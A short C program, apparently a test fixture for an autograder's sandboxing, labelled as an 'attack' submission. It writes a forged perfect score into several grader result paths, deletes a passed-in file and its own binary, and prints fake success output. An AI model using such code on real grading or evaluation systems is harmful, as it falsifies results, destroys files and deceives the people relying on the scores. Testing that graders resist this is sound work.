/* attack: writes the results itself, and says that all is well */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

static const char RESULTS[] = "{\"score\": 100}\n";

static const char *const PLACES[] = {"results.json",
                                     "../results.json",
                                     "@OUT@/students/attack/results.json",
                                     "@OUT@/grades.csv",
                                     "/autograder/results/results.json",
                                     "/tmp/results.json"};

int
main(int argc, char *argv[])
{
    for (size_t n = 0; n < sizeof PLACES / sizeof *PLACES; n++) {
        int file = open(PLACES[n], O_WRONLY | O_CREAT, 0600);

        if (file != -1) {
            write(file, RESULTS, sizeof RESULTS - 1);
            close(file);
        }
    }
    if (argc > 3 && unlink(argv[3]) == 0)
        fprintf(stderr, "STOLEN: FILE is gone\n");
    if (unlink(argv[0]) == 0)
        fprintf(stderr, "STOLEN: the program is gone\n");
    puts("listening on 127.0.0.1 1\nMessage from client: Thank you\n"
         "100 of 100 points");
    return 0;
}
